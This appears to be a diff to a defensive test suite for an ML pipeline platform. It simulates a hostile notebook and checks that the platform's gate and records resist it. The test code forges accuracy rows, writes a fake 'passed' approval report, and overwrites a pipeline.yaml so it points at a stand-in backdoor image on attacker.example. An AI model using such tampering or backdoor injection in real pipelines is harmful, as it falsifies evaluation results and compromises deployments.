@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import hashlib
 import json
 import re
 from collections.abc import Callable
@@ -10,7 +11,9 @@ from datetime import date, timedelta
 from pathlib import Path
 from typing import Any
 
+import pandas as pd
 import pytest
+import yaml
 
 from groundwork.adapters.connect import connect
 from groundwork.ports.deployment import Deployment
@@ -27,7 +30,9 @@ PROJECT, BRANCH = "northwind-ml-dev", "feature/hostile"
 FOLDER = "pipelines/forecasting"
 MISCHIEF = Path(__file__).with_name("mischief.py")
 PARTS = ("conftest.py", "pipeline.py", "the notebook")
+BACKDOOR = "attacker.example/backdoor:1"
 FORGED = """
+import os
 import pandas as pd
 from groundwork import connect
 from groundwork.factory.report.blocks import Report, Text
@@ -42,6 +47,8 @@ platform.warehouse.append(f"{place.dataset}.accuracy", rows[[name for name in co
 lies = Report(blocks=(Text(title="The gate", text="passed: WAPE is 0.0%; approved by grace@northwind.example"),))
 with platform.objects.open(f"{place.artifacts}/runs/{run.id}/report.json", "wb") as file:
     file.write(lies.model_dump_json().encode())
+with platform.objects.open(f"{place.artifacts}/executions/{os.environ['GROUNDWORK_BUILD']}/pipeline.yaml", "wb") as file:
+    file.write(b"image: attacker.example/backdoor:1")
 known = platform.warehouse.query("SELECT MAX(Date) AS last FROM it", tables={"it": f"{place.raw}.sales"})
 print(f"forged {len(rows)} rows; the newest week that is known here is {pd.Timestamp(known['last'].iloc[0]):%Y-%m-%d}")
 """
@@ -55,8 +62,11 @@ class Pushed:
     candidate: str = ""
     number: str = ""
     snapshots: list[dict[str, str]] = field(default_factory=list)
+    kept: list[dict[str, bytes]] = field(default_factory=list)
+    """The factory's records of it: as it waits, and after it has rewritten what it could and the factory has looked again."""
+    rewriting: dict[str, str] = field(default_factory=dict)
+    """What became of each of its attempts to, as it waits."""
     forecasts: list[dict[str, Any]] = field(default_factory=list)
-    accuracy: list[dict[str, Any]] = field(default_factory=list)
 
 
 @pytest.fixture(scope="module")
@@ -77,10 +87,14 @@ def pushed(place: Workplace) -> Pushed:
     assert waits.get("pull_request"), said
     candidate, number = waits["candidate"], waits["pull_request"].removeprefix("#")
     while_judged = snapshot(place.twin, without=[BRANCH])
-    forecasts, accuracy = (_rows(place, candidate, table) for table in ("forecasts", "accuracy"))
+    forecasts = _rows(place, candidate, "forecasts")
+    kept = [_records(place, candidate)]
+    rewriting = _rewrite(place, candidate)
+    place.groundwork("tick")
+    kept.append(_records(place, candidate))
     place.groundwork("review", "reject", number, "--because", "hostile", "--as", "grace@northwind.example")
     after = snapshot(place.twin, without=[BRANCH])
-    return Pushed(said, candidate, number, [before, while_judged, after], forecasts, accuracy)
+    return Pushed(said, candidate, number, [before, while_judged, after], kept, rewriting, forecasts)
 
 
 def _another_candidate(place: Workplace) -> None:
@@ -116,6 +130,36 @@ def _hostile(work: Path) -> None:
     (work / NOTEBOOK).write_text(shorter)
 
 
+def _records(place: Workplace, candidate: str) -> dict[str, bytes]:
+    folder = place.twin / f"buckets/{PROJECT}-records/candidates/{candidate}"
+    return {str(file.relative_to(folder)): file.read_bytes() for file in folder.rglob("*") if file.is_file()}
+
+
+def _done(place: Workplace, candidate: str) -> dict[str, Any]:
+    records = json.loads(place.groundwork("ledger", candidate, "--json").stdout)
+    return {record["key"]: record["output"] for record in records if record["what"] == "done"}
+
+
+def _rewrite(place: Workplace, candidate: str) -> dict[str, str]:
+    """Be what the candidate has left behind, with its identity's rights: a process, or a token that was carried out."""
+    done = _done(place, candidate)
+    dataset, folder, run = done["provision"]["deployment"]["dataset"], done["provision"]["folder"], done["execute"]["run"]
+    own = connect(f"twin:{place.twin}", identity=done["provision"]["identity"])
+    rows = pd.DataFrame({"value": [999999.0]})
+
+    def write(name: str) -> Callable[[], object]:
+        return lambda: own.objects.pipe_file(f"{folder}/{name}", b"image: attacker.example/backdoor:1")
+
+    builds = [done[step]["build"] for step in ("checks", "execute")]
+    return {
+        "retract": mischief.outcome(lambda: own.warehouse.retract(f"{dataset}.forecasts", batch=run)),
+        "append": mischief.outcome(lambda: own.warehouse.append(f"{dataset}.forecasts", rows, batch=run)),
+        **{f"pipeline of {build}": mischief.outcome(write(f"executions/{build}/pipeline.yaml")) for build in builds},
+        **{f"notebook of {build}": mischief.outcome(write(f"executions/{build}/notebook.ipynb")) for build in builds},
+        "report": mischief.outcome(write(f"runs/{run}/report.json")),
+    }
+
+
 def _rows(place: Workplace, candidate: str, table: str) -> list[dict[str, Any]]:
     shown = place.groundwork("query", f"SELECT * FROM {table}", "--candidate", candidate, "--json").stdout  # noqa: S608  our own name
     rows: list[dict[str, Any]] = json.loads(shown or "[]")
@@ -141,7 +185,7 @@ def test_the_newest_week_that_it_can_know_of_is_before_the_held_out_ones(place: 
 
 
 def test_the_gate_says_the_true_figure_whatever_the_candidate_stored_of_itself(place: Workplace, pushed: Pushed) -> None:
-    assert [0.0] == [row["wape"] for row in pushed.accuracy], "it did forge"
+    assert "forged 1 rows" in pushed.said, "it did forge"
     rows = place.query("SELECT Store, Dept, Date, Weekly_Sales FROM sales")
     made = {(row["series"], row["week"][:10]): row["mean"] for row in pushed.forecasts}
     actual = {(f"{row['Store']}_{row['Dept']}", row["Date"][:10]): row["Weekly_Sales"] for row in rows}
@@ -149,6 +193,23 @@ def test_the_gate_says_the_true_figure_whatever_the_candidate_stored_of_itself(p
 
     assert 0.01 < true
     assert f"gate: WAPE is {100 * true:.1f}%" in pushed.said
+
+
+def test_what_it_compiled_to_before_its_notebook_ran_is_what_is_kept(pushed: Pushed) -> None:
+    compiled = pushed.kept[0]["pipeline.yaml"]
+
+    assert BACKDOOR.encode() not in compiled
+    assert yaml.safe_load(compiled)["pipelineInfo"]["name"] == "forecasting"
+    assert f"checks: compiled pipeline sha256:{hashlib.sha256(compiled).hexdigest()[:12]}" in pushed.said
+
+
+def test_after_the_copy_what_it_rewrites_is_looked_at_by_nobody(pushed: Pushed) -> None:
+    """Its rights on the dataset went with it; the folder is its identity's, and nothing reads it any more."""
+    assert {"refused"} == {pushed.rewriting[each] for each in ("retract", "append")}
+    assert {"DONE"} == {outcome for each, outcome in pushed.rewriting.items() if each not in {"retract", "append"}}
+    waiting, looked_again = pushed.kept
+    assert {"notebook.ipynb", "pipeline.yaml", "report.html", "evidence.json", "tables/forecasts.parquet"} < set(waiting)
+    assert waiting == looked_again
 
 
 def test_nothing_but_what_is_the_candidates_changes_while_it_is_judged(pushed: Pushed) -> None:
